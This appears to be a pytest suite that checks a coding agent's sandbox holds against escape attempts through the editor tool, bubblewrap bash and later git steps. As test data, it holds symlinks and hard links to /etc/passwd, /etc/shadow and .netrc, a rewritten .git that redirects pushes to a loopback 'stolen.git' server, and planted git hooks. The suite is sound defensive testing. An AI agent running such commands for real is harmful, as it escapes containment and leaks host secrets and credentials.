"""Every way out of a job's checkout, tried for real.

Three doors: the agent's text editor (``Tools`` over ``Checkout.resolve``/``read_file``/``write_file``),
its bash tool (``Checkout.run`` in bubblewrap), and the worker's own later steps on whatever the
agent left behind (staging, the secret scan's added lines, commit, push). Repositories live on the
real smart-HTTP git server; committed symlinks are made with git plumbing, as a hostile repository
would ship them.
"""

from __future__ import annotations

import dataclasses
import http.server
import os
import shutil
import subprocess
import tempfile
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pygit2
import pytest
import redis
from codeworker.executors.agent.tools import EDITOR, ToolResult, Tools
from codeworker.executors.base import Outcome, Workspace

from codeworker.coordination.keys import Keys
from codeworker.git.errors import GitError, UnsafeSymlink
from codeworker.git.worktree import Worktree
from codeworker.loopback.gitserver import GitServer
from codeworker.models import Job, parse_job
from codeworker.pipeline.run import OperationRun
from codeworker.pipeline.service import Pipeline
from codeworker.sandbox.checkout import Checkout
from codeworker.verification.verifier import Verifier
from tests.conftest import GITHUB_TOKEN
from tests.support.checkouts import FILES, Checkouts, sandbox_settings

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed")

SECRET = "cwcanary-outside-secret-7c41d0"
"""Content of every file outside the checkout that a test tries to reach."""

AWS_KEY = "AKIA" + "QYLPMN5HHHFPZAM2"
AUTHOR = ("codeworker", "codeworker@example.invalid")
IDENTITY = {
    "GIT_AUTHOR_NAME": "hostile",
    "GIT_AUTHOR_EMAIL": "hostile@example.invalid",
    "GIT_COMMITTER_NAME": "hostile",
    "GIT_COMMITTER_EMAIL": "hostile@example.invalid",
}


def _git(repo: Path, *args: str, stdin: bytes = b"", env: dict[str, str] | None = None) -> str:
    done = subprocess.run(
        ["git", *args],
        cwd=repo,
        input=stdin,
        capture_output=True,
        env={**os.environ, **IDENTITY, **(env or {})},
        check=True,
    )
    return done.stdout.decode()


def commit_links(server: GitServer, owner: str, name: str, links: dict[str, str]) -> None:
    """Commit symbolic links (path -> target) on ``main`` of a server repository, with plumbing:
    the links are in the repository itself, as a hostile repository would have them."""
    repo = server.repo_path(owner, name)
    parent = server.ref_sha(owner, name, "main")
    assert parent is not None
    with tempfile.TemporaryDirectory() as tmp:
        env = {"GIT_INDEX_FILE": str(Path(tmp) / "index")}
        _git(repo, "read-tree", parent, env=env)
        entries = ""
        for path, target in links.items():
            blob = _git(repo, "hash-object", "-w", "--stdin", stdin=target.encode()).strip()
            entries += f"120000 {blob}\t{path}\n"
        _git(repo, "update-index", "--index-info", stdin=entries.encode(), env=env)
        tree = _git(repo, "write-tree", env=env).strip()
        sha = _git(repo, "commit-tree", tree, "-p", parent, "-m", "links").strip()
        _git(repo, "update-ref", "refs/heads/main", sha, parent)


@dataclass
class Env(Checkouts):
    outside: Path
    """A directory outside every checkout holding ``secret.txt`` (content: SECRET)."""

    def repo(self, files: dict[str, str] | None = None, links: dict[str, str] | None = None) -> str:
        url = super().repo(files)
        if links:
            commit_links(self.git_server, self.owner, url.rsplit("/", 1)[1].removesuffix(".git"), links)
        return url


@pytest.fixture()
def env(tmp_path: Path, git_server: GitServer, redis_client: redis.Redis) -> Env:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(SECRET + "\n")
    base = Checkouts.create(
        sandbox_settings(tmp_path, GITHUB_TOKEN, sandbox_memory_mb=1024), git_server, redis_client
    )
    return Env(base.settings, base.mirrors, base.git_server, base.redis, outside)


@dataclass
class OpenJob:
    """One job's checkout with the agent's tools over it."""

    worktree: Worktree
    checkout: Checkout
    tools: Tools

    @property
    def root(self) -> Path:
        return self.worktree.path

    def edit(self, **tool_input: object) -> ToolResult:
        return self.tools.call(EDITOR, tool_input)

    def bash(self, command: str) -> str:
        return self.checkout.run(command).output


@pytest.fixture()
def open_job(env: Env) -> Iterator[Callable[..., OpenJob]]:
    """Opens jobs on fresh repositories (files and committed links); cleans every one up."""
    opened: list[OpenJob] = []

    def open_(
        files: dict[str, str] | None = None,
        links: dict[str, str] | None = None,
        test_command: str | None = None,
    ) -> OpenJob:
        worktree = env.worktree(env.repo(files, links))
        checkout = env.checkout(worktree, test_command)
        job = OpenJob(worktree, checkout, Tools(checkout, 20_000, 100_000))
        opened.append(job)
        return job

    yield open_
    for job in opened:
        job.checkout.close()
        job.worktree.remove()


@pytest.fixture()
def attacker() -> Iterator[tuple[str, list[dict[str, str]]]]:
    """An HTTP server on loopback that records every request's headers: a push or fetch the agent
    redirected would land here, with whatever credentials the worker sent."""
    seen: list[dict[str, str]] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(dict(self.headers))
            self.send_error(404)

        do_POST = do_GET

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/acme/stolen.git", seen
    server.shutdown()
    server.server_close()


def refused(result: ToolResult, *words: str) -> bool:
    return result.is_error and all(word in result.text for word in words)


def commit_and_push(worktree: Worktree) -> str:
    sha = worktree.commit("agent's change", *AUTHOR)
    assert sha is not None
    worktree.push()
    return sha


def server_name(worktree: Worktree) -> str:
    return worktree.url.rstrip("/").rsplit("/", 1)[-1].removesuffix(".git")


# == the text editor ==============================================================================


@pytest.mark.parametrize(
    "path", ["../secret.txt", "a/../../secret.txt", "..", "./../../../outside/secret.txt"]
)
@pytest.mark.parametrize("command", ["view", "create", "str_replace", "insert"])
def test_editor_refuses_parent_directory_paths(open_job, env, path, command) -> None:
    job = open_job()
    if "outside" in path:  # this one really names the secret (checkouts are <tmp>/ws/worktrees/<op>)
        assert (job.root / path).resolve() == (env.outside / "secret.txt").resolve()
    result = job.edit(
        command=command,
        path=path,
        file_text="pwned",
        old_str=SECRET,
        new_str="pwned",
        insert_line=0,
        insert_text="pwned",
    )
    assert refused(result, "refused", ".."), result.text
    assert SECRET not in result.text
    assert (env.outside / "secret.txt").read_text() == SECRET + "\n"


@pytest.mark.parametrize("command", ["view", "create", "str_replace"])
def test_editor_refuses_absolute_paths_outside(open_job, env, command) -> None:
    job = open_job()
    for path in (env.outside / "secret.txt", Path("/etc/passwd"), job.root.parent / "x.py"):
        result = job.edit(command=command, path=str(path), file_text="pwned", old_str="root", new_str="x")
        assert refused(result, "outside the checkout"), result.text
        assert SECRET not in result.text and "root:" not in result.text
    assert (env.outside / "secret.txt").read_text() == SECRET + "\n"
    assert not (job.root.parent / "x.py").exists()


def test_editor_refuses_committed_symlinks_to_files_outside(open_job, env) -> None:
    other = open_job({"secret.txt": SECRET + "\n"})
    job = open_job(
        links={
            "passwd": "/etc/passwd",
            "secret": str(env.outside / "secret.txt"),
            "sibling": f"../{other.root.name}/secret.txt",  # another job's checkout, relatively
        }
    )
    for link in ("passwd", "secret", "sibling"):
        assert (job.root / link).is_symlink()
        view = job.edit(command="view", path=link)
        edit = job.edit(command="str_replace", path=link, old_str="cwcanary", new_str="pwned")
        create = job.edit(command="create", path=link, file_text="pwned")
        for result in (view, edit, create):
            assert refused(result, "resolves outside the checkout"), (link, result.text)
            assert SECRET not in result.text and "root:" not in result.text
    assert (env.outside / "secret.txt").read_text() == SECRET + "\n"
    assert (other.root / "secret.txt").read_text() == SECRET + "\n"


def test_editor_refuses_committed_symlinked_directories(open_job, env) -> None:
    job = open_job(links={"d": str(env.outside), "up": "..", "tmp": "/tmp"})
    for path in ("d/x.py", "up/x.py", "tmp/x.py", "d/secret.txt"):
        result = job.edit(command="create", path=path, file_text="pwned")
        assert refused(result, "resolves outside the checkout"), (path, result.text)
    for path in ("d", "up", "d/secret.txt"):
        result = job.edit(command="view", path=path)
        assert refused(result, "resolves outside the checkout"), (path, result.text)
        assert SECRET not in result.text
    assert sorted(p.name for p in env.outside.iterdir()) == ["secret.txt"]
    assert not (job.root.parent / "x.py").exists() and not Path("/tmp/x.py").exists()
    # The links themselves stay what the repository made them; the root listing names them only.
    listing = job.edit(command="view", path=".")
    assert not listing.is_error and SECRET not in listing.text


def test_editor_refuses_the_git_file_and_paths_through_it(open_job) -> None:
    job = open_job(links={"g": ".git"})
    gitfile = (job.root / ".git").read_text()
    for path in (".git", ".git/config", ".git/hooks/pre-commit", "g", "g/config", "./.git"):
        for result in (
            job.edit(command="view", path=path),
            job.edit(command="create", path=path, file_text="gitdir: /tmp/evil\n"),
        ):
            assert refused(result, ".git"), (path, result.text)
    assert (job.root / ".git").read_text() == gitfile


def test_editor_refuses_nul_bytes_clearly(open_job) -> None:
    job = open_job()
    for command in ("view", "create"):
        result = job.edit(command=command, path="app.py\x00.txt", file_text="x")
        assert refused(result, "not a repo-relative path"), result.text
    assert sorted(p.name for p in job.root.iterdir()) == [".git", "README.md", "app.py"]


def test_editor_gives_a_clear_error_for_overlong_paths(open_job) -> None:
    job = open_job()
    for path in ("a" * 5000, "a/" * 2500 + "x", str(job.root / ("b" * 5000))):
        result = job.edit(command="create", path=path, file_text="x")
        assert refused(result, "longer than"), result.text[:300]
        assert len(result.text) < 500
    # One name longer than the file system allows (NAME_MAX, 255 bytes) though the path is short.
    result = job.edit(command="create", path="n" * 300 + ".py", file_text="x")
    assert refused(result, "longer than 255 bytes"), result.text[:300]
    assert len(result.text) < 500
    assert sorted(p.name for p in job.root.iterdir()) == [".git", "README.md", "app.py"]


def test_editor_refuses_three_hundred_nested_directories(open_job) -> None:
    """libgit2 cannot stage a tree 100 levels deep: refused up front, not at the commit."""
    job = open_job()
    result = job.edit(command="create", path="d/" * 300 + "deep.py", file_text="x = 1\n")
    assert refused(result, "301 levels deep", "at most 100"), result.text
    assert not (job.root / "d").exists()

    deep = "d/" * 99 + "deep.py"  # the deepest path git stages
    created = job.edit(command="create", path=deep, file_text="x = 1\n")
    assert not created.is_error, created.text
    assert job.edit(command="view", path=deep).text == "     1\tx = 1"
    assert job.worktree.changed_files() == [deep]
    sha = commit_and_push(job.worktree)
    assert job.worktree.repository()[sha].peel(pygit2.Tree)[deep].data == b"x = 1\n"


def test_editor_refuses_symlink_loops(open_job) -> None:
    job = open_job(links={"loop": "loop", "a": "b", "b": "a"})
    for path in ("loop", "a", "a/x.py"):
        for result in (
            job.edit(command="view", path=path),
            job.edit(command="create", path=path, file_text="x"),
        ):
            assert refused(result, "loop of symbolic links"), (path, result.text)


@pytest.mark.timeout(60)
def test_editor_refuses_fifos_and_other_special_files(open_job) -> None:
    """A FIFO the agent made in bash would block the worker forever on open()."""
    job = open_job()
    job.bash("mkfifo pipe && python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"sock\")'")
    assert (job.root / "pipe").exists() and (job.root / "sock").exists()
    for path in ("pipe", "sock"):
        for result in (
            job.edit(command="view", path=path),
            job.edit(command="create", path=path, file_text="x"),
            job.edit(command="str_replace", path=path, old_str="a", new_str="b"),
            job.edit(command="insert", path=path, insert_line=0, insert_text="x"),
        ):
            assert refused(result, "not a regular file"), (path, result.text)
    # Staging does not open them either: git has no FIFOs or sockets, so they are left out.
    assert job.worktree.changed_files() == []


# == bash in the sandbox ==========================================================================


def test_bash_cannot_read_host_secrets_through_committed_symlinks(
    open_job, env, tmp_path, monkeypatch
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".netrc").write_text(f"machine github.com password {SECRET}\n")
    monkeypatch.setenv("HOME", str(home))
    other = open_job({"secret.txt": SECRET + "\n"})
    (other.root / "draft.txt").write_text(SECRET + "\n")  # another job's uncommitted work
    other_mirror = env.mirrors.mirror_path(other.worktree.url)
    job = open_job(
        links={
            "sibling": f"../{other.root.name}/secret.txt",
            "draft": str(other.root / "draft.txt"),
            "netrc": str(home / ".netrc"),
            "mirror-config": str(other_mirror / "config"),
            "journal": str(env.settings.workspace_root),
        }
    )
    output = job.bash(
        "cat sibling draft netrc mirror-config; ls -la journal/ journal/worktrees journal/mirrors; "
        "find journal/ -type f | head; echo finished"
    )
    assert "finished" in output
    assert SECRET not in output
    assert other.worktree.url not in output  # the other repository's mirror config
    assert other.root.name not in output  # not even the name of the other job's checkout


def test_bash_cannot_write_through_committed_symlinks(open_job, env) -> None:
    other = open_job({"secret.txt": SECRET + "\n"})
    job = open_job(
        links={
            "secret": str(env.outside / "secret.txt"),
            "d": str(env.outside),
            "sibling": f"../{other.root.name}",
            "up": "..",
        }
    )
    output = job.bash(
        "echo pwned > secret; echo pwned >> secret; echo pwned > d/new.txt; cp app.py d/; "
        "echo pwned > sibling/secret.txt; echo pwned > up/new.txt; ln -s /etc up/link; echo finished"
    )
    assert "finished" in output, output
    assert (env.outside / "secret.txt").read_text() == SECRET + "\n"
    assert sorted(p.name for p in env.outside.iterdir()) == ["secret.txt"]
    assert (other.root / "secret.txt").read_text() == SECRET + "\n"
    assert sorted(p.name for p in job.root.parent.iterdir()) == sorted([job.root.name, other.root.name])


def test_hard_links_out_of_the_checkout_fail(open_job, env) -> None:
    job = open_job()
    mirror = env.mirrors.mirror_path(job.worktree.url)
    (job.checkout.scratch / "report.xml").write_text("scratch\n")
    sources = {
        "shadow": "/etc/shadow",
        "passwd": "/etc/passwd",
        "mirror": str(mirror / "HEAD"),
        "mirror-object": str(next(p for p in (mirror / "objects").rglob("*") if p.is_file())),
        "scratch": str(job.checkout.scratch / "report.xml"),
        "program": "/usr/bin/env",
    }
    script = "; ".join(f"ln {source} {name} && echo LINKED-{name}" for name, source in sources.items())
    output = job.bash(script)

    assert "LINKED" not in output, output
    assert output.count("Invalid cross-device link") + output.count("Operation not permitted") >= len(
        sources
    ), output
    assert job.worktree.changed_files() == []


def test_a_symlink_the_agent_makes_is_never_committed_when_it_points_outside(open_job, env) -> None:
    job = open_job()
    (env.outside / "aws.txt").write_text(f"aws_access_key_id = {AWS_KEY}\n")
    job.bash(
        f"ln -s /etc/passwd leak.txt; ln -s {env.outside}/aws.txt creds; ln -s ../../.. escape; "
        "mkdir -p sub && ln -s ../../x sub/up; ln -s app.py alias.py; ln -s sub subdir"
    )
    worktree = job.worktree

    # The secret scan reads each link itself (its target path), never the file it points to.
    added = worktree.added_lines()
    assert added["leak.txt"] == [(1, "/etc/passwd")]
    assert added["creds"] == [(1, f"{env.outside}/aws.txt")]
    assert all(AWS_KEY not in text and "root:" not in text for lines in added.values() for _, text in lines)

    with pytest.raises(UnsafeSymlink) as caught:
        worktree.commit("agent's change", *AUTHOR)
    message = str(caught.value)
    for link in ("leak.txt -> /etc/passwd", "creds", "escape -> ../../..", "sub/up -> ../../x"):
        assert link in message
    assert "alias.py" not in message and "subdir" not in message  # links that stay inside are fine
    assert worktree.commits() == []
    assert env.git_server.branches("acme", server_name(worktree)) == ["main"]


def test_symlinks_inside_the_checkout_are_committed_as_links(open_job) -> None:
    job = open_job()
    job.bash("mkdir docs && ln -s ../app.py docs/app.py && ln -s README.md readme")

    sha = commit_and_push(job.worktree)

    tree = job.worktree.repository()[sha].peel(pygit2.Tree)
    assert tree["readme"].filemode == pygit2.enums.FileMode.LINK
    assert tree["docs/app.py"].data == b"../app.py"


# == scratch: the one place outside the checkout that both commands and the worker write ==========

JUNIT_LINK = (
    'report=$(echo "$PYTEST_ADDOPTS" | sed -e "s/.*--junitxml=\\([^ ]*\\).*/\\1/"); '
    'ln -sf {target} "$report"; echo planted "$report"'
)


def test_links_planted_in_scratch_are_not_followed_by_the_worker(open_job, env) -> None:
    """The worker writes the coverage plugin and reads the JUnit report at fixed names in scratch,
    outside the sandbox: a link planted there must not make it overwrite or read a host file."""
    victim = env.outside / "victim.py"
    victim.write_text("untouched\n")
    report = env.outside / "report.xml"
    report.write_text(f'<testsuite><testcase name="t"><failure message="{SECRET}"/></testcase></testsuite>')
    job = open_job(test_command=JUNIT_LINK.format(target=report))
    scratch = job.checkout.scratch
    output = job.bash(
        f"ln -s {victim} {scratch}/codeworker_coverage.py; mkfifo {scratch}/fifo; "
        f"ln -s /etc {scratch}/etc; mkdir {scratch}/dir; echo kept > {scratch}/file; ls {scratch}"
    )
    assert "codeworker_coverage.py" in output and "fifo" in output, output
    assert sorted(p.name for p in scratch.iterdir()) == ["dir", "file"]  # removed after the command

    raw = {"description": "add tests", "repository": {"url": job.worktree.url}}
    test_job = parse_job(
        raw, operation_type="test", allowed_repos=[env.git_server.base_url], max_iterations_cap=5
    )
    run = Verifier(test_job, job.checkout).run_tests()

    assert run is not None and "planted" in run.output_tail, run
    assert victim.read_text() == "untouched\n"
    assert SECRET not in str(run.failures) and run.tests == {}


# == .git: the worker must trust nothing the agent can write =====================================


def test_rewritten_git_file_does_not_redirect_commit_or_push(open_job, env, attacker) -> None:
    """The agent clones the mirror into scratch, points it at its own server, and rewrites .git
    to name it: the worker's commit and push must still use the admin dir it created."""
    stolen_url, seen = attacker
    job = open_job()
    branch = job.worktree.branch
    output = job.bash(
        f"""set -e
        evil="{job.checkout.scratch}/evil"
        git clone -q --bare "$(git rev-parse --git-common-dir)" "$evil"
        git --git-dir="$evil" symbolic-ref HEAD refs/heads/{branch}
        git --git-dir="$evil" config remote.origin.url {stolen_url}
        git --git-dir="$evil" config remote.origin.pushurl {stolen_url}
        git --git-dir="$evil" config core.bare false
        printf 'gitdir: %s\\n' "$evil" > .git
        echo 'def f():\n    return 2' > app.py
        git status --short >/dev/null
        echo redirected"""
    )
    assert "redirected" in output, output

    assert job.worktree.changed_files() == ["app.py"]
    sha = commit_and_push(job.worktree)

    assert seen == []  # nothing (and no token) went to the agent's server
    assert env.git_server.ref_sha("acme", server_name(job.worktree), branch) == sha
    assert env.git_server.read_file("acme", server_name(job.worktree), branch, ".git") is None


def test_git_admin_dir_writes_stay_in_the_sandbox(open_job, env, attacker) -> None:
    """HEAD, commondir, gitdir, config.worktree and hooks of the admin dir, as the agent sees it."""
    stolen_url, seen = attacker
    job = open_job()
    admin = job.worktree.git_dir
    before = {p.name: p.read_bytes() for p in admin.iterdir() if p.is_file()}
    evil = job.checkout.scratch / "evil"
    output = job.bash(
        f"""gitdir="$(git rev-parse --git-dir)"
        echo "gitdir=$gitdir"
        git clone -q --bare "$(git rev-parse --git-common-dir)" {evil}
        git --git-dir={evil} config remote.origin.url {stolen_url}
        echo 'ref: refs/heads/main' > "$gitdir/HEAD"
        echo {evil} > "$gitdir/commondir"
        echo /tmp/elsewhere/.git > "$gitdir/gitdir"
        printf '[core]\\n\\thooksPath = /tmp\\n[include]\\n\\tpath = /tmp/x\\n' > "$gitdir/config.worktree"
        mkdir -p "$gitdir/hooks" && echo 'touch /tmp/pwned' > "$gitdir/hooks/pre-commit"
        echo 'def f():\n    return 3' > app.py
        echo "written $(cat "$gitdir/HEAD")" """
    )
    # The writes worked, on the sandbox's private copy of the admin dir...
    assert f"gitdir={admin}" in output and "written ref: refs/heads/main" in output, output
    # ...and the worker's admin dir is as it made it.
    assert {p.name: p.read_bytes() for p in admin.iterdir() if p.is_file()} == before
    assert not (admin / "hooks").exists() and not (admin / "config.worktree").exists()

    repo = job.worktree.repository()
    assert repo.head.name == f"refs/heads/{job.worktree.branch}"
    assert Path(repo.workdir).resolve() == job.root.resolve()
    assert "core.hooksPath" not in repo.config and repo.remotes["origin"].url == job.worktree.url
    sha = commit_and_push(job.worktree)
    name = server_name(job.worktree)
    assert seen == []
    assert env.git_server.ref_sha("acme", name, job.worktree.branch) == sha
    assert env.git_server.ref_sha("acme", name, "main") == job.worktree.base_commit
    assert job.worktree.commits() == [sha]


def test_git_in_the_sandbox_still_works_on_its_private_view(open_job) -> None:
    job = open_job()
    output = job.bash(
        "echo changed > app.py && git status --short && git diff --stat && git checkout -- app.py "
        "&& git status --short && echo restored"
    )
    assert " M app.py" in output and "restored" in output, output
    assert (job.root / "app.py").read_text() == FILES["app.py"]


def test_mirror_hooks_config_and_refs_are_read_only(open_job, env) -> None:
    job = open_job()
    mirror = env.mirrors.mirror_path(job.worktree.url)
    config = (mirror / "config").read_bytes()
    output = job.bash(
        """common="$(git rev-parse --git-common-dir)"
        echo "common=$common"
        mkdir -p "$common/hooks"; echo 'touch /tmp/pwned' > "$common/hooks/pre-push"
        git config --file "$common/config" core.hooksPath /tmp
        printf '[include]\\n\\tpath = /tmp/x\\n' >> "$common/config"
        git update-ref refs/heads/main HEAD~0 2>&1
        echo x > "$common/objects/info/alternates"
        echo finished"""
    )
    assert f"common={mirror}" in output and "finished" in output, output
    assert output.count("Read-only file system") >= 4, output
    assert (mirror / "config").read_bytes() == config
    assert not (mirror / "hooks" / "pre-push").exists()
    assert not (mirror / "objects" / "info" / "alternates").exists()


def test_the_agents_index_does_not_decide_what_is_committed(open_job, env) -> None:
    """The agent hides a change from git (assume-unchanged, skip-worktree, rm --cached): the
    worker stages the working tree as it is, so the scan and the commit see every change."""
    job = open_job({**FILES, "config.py": "KEY = None\n"})
    output = job.bash(
        f"""echo 'KEY = "{AWS_KEY}"' > config.py
        git update-index --assume-unchanged config.py
        echo 'def f():\n    return 4' > app.py
        git update-index --skip-worktree app.py
        git rm -q --cached README.md
        git status --short; echo indexed"""
    )
    assert "indexed" in output and "config.py" not in output, output  # hidden from git in the sandbox

    added = job.worktree.added_lines()
    assert sorted(job.worktree.changed_files()) == ["app.py", "config.py"]
    assert any(AWS_KEY in text for _, text in added["config.py"])
    sha = commit_and_push(job.worktree)
    tree = job.worktree.repository()[sha].peel(pygit2.Tree)
    assert AWS_KEY.encode() in tree["config.py"].data and tree["README.md"].data == b"hello\n"


def test_git_replaced_by_a_directory_is_neither_used_nor_committed(open_job, env, attacker) -> None:
    stolen_url, seen = attacker
    job = open_job()
    output = job.bash(
        f"rm .git && git init -q . && git remote add origin {stolen_url} && git add -A 2>&1; "
        "echo 'def f():\n    return 5' > app.py; echo replaced"
    )
    assert "replaced" in output and (job.root / ".git").is_dir(), output

    assert job.worktree.changed_files() == ["app.py"]
    sha = commit_and_push(job.worktree)

    assert seen == []
    tree = job.worktree.repository()[sha].peel(pygit2.Tree)
    assert sorted(entry.name for entry in tree) == ["README.md", "app.py"]
    assert env.git_server.ref_sha("acme", server_name(job.worktree), job.worktree.branch) == sha


def test_a_tree_too_deep_to_stage_fails_clearly(open_job) -> None:
    job = open_job()
    job.bash("mkdir -p $(printf 'd/%.0s' $(seq 300)) && echo x > $(printf 'd/%.0s' $(seq 300))leaf.txt")
    assert (job.root / ("d/" * 300 + "leaf.txt")).is_file()

    with pytest.raises(GitError, match="cannot stage the working tree: directory nesting too deep"):
        job.worktree.changed_files()
    with pytest.raises(GitError, match="cannot stage the working tree"):
        job.worktree.commit("agent's change", *AUTHOR)
    job.worktree.remove()  # and the worker can still clean it up
    assert not job.root.exists()


def test_a_path_longer_than_path_max_is_neither_staged_nor_fatal(open_job) -> None:
    """Made with relative mkdir/chdir, which the kernel allows past PATH_MAX (4096). libgit2 skips
    what it cannot name; the rest of the change is committed, and cleanup removes everything."""
    job = open_job()
    job.bash(
        "python3 -c \"import os\nfor _ in range(30): os.mkdir('n' * 200); os.chdir('n' * 200)\n"
        "open('leaf.txt', 'w').write('x')\"; echo changed >> README.md"
    )
    assert job.bash("find . -name leaf.txt | wc -l").strip() == "1"  # the kernel made it

    assert job.worktree.changed_files() == ["README.md"]
    sha = commit_and_push(job.worktree)
    assert sorted(e.name for e in job.worktree.repository()[sha].peel(pygit2.Tree)) == ["README.md", "app.py"]
    job.worktree.remove()
    assert not job.root.exists()


# == through the pipeline ========================================================================


class ShellExecutor:
    """An executor whose whole work is one sandboxed shell command."""

    name = "shell"

    def __init__(self, command: str) -> None:
        self.command = command

    def run(self, job: Job, workspace: Workspace) -> Outcome:
        workspace.run(self.command)
        return Outcome(summary="shell change")


def run_pipeline(pipe: Pipeline, git_server: GitServer, command: str) -> tuple[dict, str]:
    name = f"cfp-{uuid.uuid4().hex[:8]}"
    url = git_server.create_repo("acme", name, FILES)
    raw = {"description": "change", "repository": {"url": url, "owner": "acme", "name": name}}
    job = parse_job(
        raw, operation_type="refactor", allowed_repos=pipe.settings.allowed_repos, max_iterations_cap=10
    )
    claim = pipe.claims.claim(job.operation_id)
    assert claim.owner is not None
    shell = dataclasses.replace(pipe, resolve_executor=lambda n, t: ShellExecutor(command))
    run = OperationRun(shell, job, ShellExecutor(command), claim.owner, None, time.monotonic())
    return run.execute(), name


def test_pipeline_refuses_an_escaping_symlink_and_pushes_nothing(pipe, git_server) -> None:
    result, name = run_pipeline(pipe, git_server, "ln -s /etc/passwd leak.txt; echo ok >> README.md")

    assert result["status"] == "blocked" and result["success"] is False
    assert "leak.txt -> /etc/passwd" in result["error"] and "outside" in result["error"]
    assert result["commits"] == []
    assert git_server.branches("acme", name) == ["main"]
    assert list(pipe.redis.scan_iter(Keys().lock_pattern())) == []


def test_pipeline_pushes_a_symlink_that_stays_inside(pipe, git_server) -> None:
    result, name = run_pipeline(pipe, git_server, "ln -s app.py alias.py")

    assert result["status"] == "pr_open", result["error"]
    assert git_server.read_file("acme", name, result["branch"], "alias.py") == "app.py"
